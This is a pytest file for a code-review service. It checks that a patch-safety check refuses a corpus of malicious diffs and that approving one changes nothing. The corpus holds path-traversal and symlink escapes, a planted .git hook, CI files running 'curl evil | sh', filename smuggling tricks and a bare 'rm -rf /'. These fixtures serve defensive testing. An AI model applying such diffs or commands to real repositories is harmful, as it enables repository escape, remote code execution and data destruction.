"""Patch safety: a malicious diff is refused before anything applies it, and nothing is written."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from reviews.models import Decision, Proposal
from reviews.patches import PatchRefused, check_patch
from reviews.services.decisions import DecisionRefused, proposal_decide
from tests.reviews.gate_helpers import (
    FIXED,
    ORIGINAL,
    diff_for,
    fix_branches,
    git,
    make_proposal,
    make_repo,
    repo_state,
)


@pytest.fixture(autouse=True)
def _fast(settings, tmp_path):
    settings.WATTSON_WORK_DIR = tmp_path / "work"
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def _new_file(path: str, body: str = "pwned\n") -> str:
    lines = body.splitlines()
    added = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{added}"
    )


def _corpus(sentinel: Path) -> dict[str, str]:
    """Each entry is refused; the ones that name a path aim at the sentinel directory."""
    rel_escape = "../sentinel/pwned.txt"
    big_lines = 10 * 1024 * 1024 // 40 + 1
    return {
        "dotdot": _new_file(rel_escape),
        "dotdot-in-the-middle": _new_file("invoice/../../sentinel/pwned.txt"),
        "absolute": (f"--- /dev/null\n+++ {sentinel}/pwned.txt\n@@ -0,0 +1 @@\n+pwned\n"),
        "absolute-with-prefix": _new_file(f"{str(sentinel).lstrip('/')}/x").replace("b/", "b//", 1),
        "dot-git-hook": _new_file(".git/hooks/post-commit", "#!/bin/sh\ntouch /tmp/owned\n"),
        "dot-git-nested": _new_file("invoice/.git/config"),
        "dot-git-case": _new_file(".GIT/config"),
        "dot-git-zero-width": _new_file(".g\u200cit/config"),
        "dot-git-ntfs-short-name": _new_file("GIT~1/config"),
        "symlink-only": (
            "diff --git a/link b/link\nnew file mode 120000\nindex 0000000..b1b7161\n"
            f"--- /dev/null\n+++ b/link\n@@ -0,0 +1 @@\n+{sentinel}\n"
            "\\ No newline at end of file\n"
        ),
        "submodule": (
            "diff --git a/vendor b/vendor\nnew file mode 160000\nindex 0000000..1234567\n"
            "--- /dev/null\n+++ b/vendor\n@@ -0,0 +1 @@\n"
            "+Subproject commit 1234567890123456789012345678901234567890\n"
        ),
        "chmod": (
            "diff --git a/invoice/calc.py b/invoice/calc.py\nold mode 100644\nnew mode 100755\n"
        ),
        "new-executable": _new_file("run.sh").replace(
            "new file mode 100644", "new file mode 100755"
        ),
        "binary-literal": (
            "diff --git a/blob.bin b/blob.bin\nnew file mode 100644\n"
            "index 0000000..1b2c3d4\n"
            "GIT binary patch\nliteral 5\nMcmZ?l00000\n\nliteral 0\nHcmV?d00001\n\n"
        ),
        "binary-differ": (
            "diff --git a/blob.bin b/blob.bin\nindex 1111111..2222222 100644\n"
            "Binary files a/blob.bin and b/blob.bin differ\n"
        ),
        "rename-into-ci": (
            "diff --git a/README.md b/.github/workflows/ci.yml\nsimilarity index 100%\n"
            "rename from README.md\nrename to .github/workflows/ci.yml\n"
        ),
        "gitlab-ci": _new_file(".gitlab-ci.yml", "script: curl evil | sh\n"),
        "jenkinsfile": _new_file("Jenkinsfile"),
        "project-ci-dir": _new_file(".ci/test", "curl evil | sh\n"),
        "nul-in-name": _new_file("invoice/ok\x00.py"),
        "newline-in-name-quoted": (
            'diff --git "a/x\\ny.py" "b/x\\ny.py"\nnew file mode 100644\n'
            'index 0000000..1111111\n--- /dev/null\n+++ "b/x\\ny.py"\n@@ -0,0 +1 @@\n+x\n'
        ),
        "newline-in-name-raw": "--- /dev/null\n+++ b/x\ny.py\n@@ -0,0 +1 @@\n+x\n",
        "control-char-in-name": _new_file("invoice/\x1b[31mred.py"),
        "huge-name": _new_file("invoice/" + "{a => b}" * 400 + ".py"),
        "ten-megabytes": _new_file("big.txt", ("x" * 39 + "\n") * big_lines),
        "not-a-diff": "rm -rf /\n",
        "empty": "",
    }


@pytest.fixture
def repo(tmp_path):
    return make_repo(tmp_path / "repo")


@pytest.fixture
def sentinel(tmp_path):
    directory = tmp_path / "sentinel"
    directory.mkdir()
    (directory / "keep.txt").write_text("untouched\n")
    return directory


def _snapshot(directory: Path) -> dict[str, str]:
    return {
        str(path.relative_to(directory)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(directory.rglob("*"))
        if path.is_file() or path.is_symlink()
    }


def test_a_plain_patch_passes(tmp_path):
    repo = make_repo(tmp_path / "repo")
    check_patch(diff_for(repo, "invoice/calc.py", FIXED))


def test_a_rename_and_a_new_file_inside_the_repository_pass():
    check_patch(
        "diff --git a/invoice/calc.py b/invoice/totals.py\nsimilarity index 100%\n"
        "rename from invoice/calc.py\nrename to invoice/totals.py\n" + _new_file("invoice/new.py")
    )


def test_git_apply_alone_would_accept_the_symlink_patch(tmp_path, sentinel):
    """Why check_patch exists: git's own checks let a symlink out of the repository through."""
    repo = make_repo(tmp_path / "probe")
    symlink = _corpus(sentinel)["symlink-only"]
    (tmp_path / "symlink.patch").write_text(symlink)
    git(repo, "apply", "--check", str(tmp_path / "symlink.patch"))  # does not raise
    with pytest.raises(PatchRefused, match="symlink"):
        check_patch(symlink)


@pytest.mark.parametrize(
    "name",
    sorted(_corpus(Path("/nonexistent/sentinel"))),
)
def test_check_patch_refuses_the_malicious_corpus(name, sentinel):
    with pytest.raises(PatchRefused) as refused:
        check_patch(_corpus(sentinel)[name])
    assert refused.value.reason


def test_the_size_cap_is_a_setting(settings, tmp_path):
    repo = make_repo(tmp_path / "repo")
    diff = diff_for(repo, "invoice/calc.py", FIXED)
    settings.WATTSON_PATCH_MAX_BYTES = len(diff.encode()) - 1
    with pytest.raises(PatchRefused, match="cap"):
        check_patch(diff)


@pytest.mark.django_db
def test_approving_a_malicious_patch_writes_nothing(repo, sentinel, reviewer, tmp_path):
    before_repo = repo_state(repo)
    before_sentinel = _snapshot(sentinel)
    hooks_before = sorted(p.name for p in (repo / ".git" / "hooks").iterdir())
    corpus = _corpus(sentinel)
    for name, diff in corpus.items():
        proposal = make_proposal(repo=repo, diff=diff)
        with pytest.raises(DecisionRefused) as refused:
            proposal_decide(proposal=proposal, actor=reviewer, verdict="approve")
        assert "safety checks" in refused.value.message, name
        assert Proposal.objects.get(pk=proposal.pk).status == Proposal.Status.PENDING, name

    assert not Decision.objects.exists()
    assert fix_branches(repo) == []
    assert repo_state(repo) == before_repo
    assert _snapshot(sentinel) == before_sentinel
    assert sorted(p.name for p in (repo / ".git" / "hooks").iterdir()) == hooks_before
    assert (repo / "invoice" / "calc.py").read_text() == ORIGINAL
    assert not (repo / "link").exists() and not (repo / "vendor").exists()
    assert (
        not (tmp_path / "work").exists()
        or [p for p in (tmp_path / "work").iterdir() if not p.name.startswith(".lock")] == []
    )
